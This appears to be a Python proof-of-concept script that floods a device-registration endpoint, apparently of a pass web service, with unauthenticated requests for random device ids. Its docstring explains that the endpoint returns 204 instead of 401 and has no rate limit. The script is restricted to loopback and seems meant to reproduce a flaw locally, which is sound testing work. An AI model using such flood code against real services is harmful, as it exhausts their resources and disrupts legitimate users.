#!/usr/bin/env python3
"""A stranger lists registrations of made-up device ids: no credential, answered 204 (not 401, so the 401 budget never
applies, and the endpoint has no rate limit), and every id activates a DeviceGrain and reads storage.
Usage: list_flood.py BASE_URL N [SECONDS] [CONNECTIONS]   (loopback only)"""
import http.client, sys, time, urllib.parse, threading, os
BASE, N = sys.argv[1], int(sys.argv[2]); LIMIT = float(sys.argv[3]) if len(sys.argv) > 3 else 60
CONN = int(sys.argv[4]) if len(sys.argv) > 4 else 4
u = urllib.parse.urlparse(BASE); assert u.hostname in ("127.0.0.1", "::1")
codes = {}; lock = threading.Lock(); start = time.time(); count = [0]
def worker(k):
    c = http.client.HTTPConnection(u.hostname, u.port, timeout=30)
    i = k
    while i < N and time.time() - start < LIMIT:
        c.request("GET", f"/v1/devices/{os.urandom(8).hex()}{i:08d}/registrations/pass.com.example.demo")
        r = c.getresponse(); r.read()
        with lock:
            codes[r.status] = codes.get(r.status, 0) + 1
        i += CONN
ts = [threading.Thread(target=worker, args=(k,)) for k in range(CONN)]
[t.start() for t in ts]; [t.join() for t in ts]
el = time.time() - start
print(f"{sum(codes.values())} requests in {el:.1f}s ({sum(codes.values())/el:.0f}/s) codes={codes}")
